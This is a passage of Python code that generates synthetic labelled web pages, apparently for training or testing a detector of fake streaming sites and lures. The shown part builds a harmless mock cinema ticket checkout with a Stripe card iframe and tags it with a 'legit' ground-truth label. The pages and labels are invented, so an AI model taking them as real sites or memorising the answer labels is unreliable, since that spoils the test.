        '<div id="card-element"><iframe name="__privateStripeFrame5" src="https://js.stripe.com/v3/elements-inner-card-8a1a8d6.html'
        '#componentName=card" title="Secure card payment input frame"></iframe></div>'
        '<button type="submit">Pay 24.90 EUR</button></form><script src="https://js.stripe.com/v3/"></script>'
    )
    return (
        url,
        body,
        "legit cinema ticket checkout, card entry in Stripe Elements iframe, posts to own host",
    )


LEGIT_SITES = {
    "official": _official_site,
    "streamer_title": _streamer_title,
    "tickets": _ticket_checkout,
}


def legit_site_page(rng: random.Random, variant: str, film: Film) -> Page:
    """An official/commercial page about a watched film (not a fake stream, not a lure)."""
    url, body, what = LEGIT_SITES[variant](rng, film)
    return Page(
        "landing",
        "landing",
        url,
        "en",
        _page("en", esc(film.forms[0]), body),
        False,
        False,
        None,
        f"legit: {what}; film '{film.title}'",
        f"landing:legit:{variant}",
    )
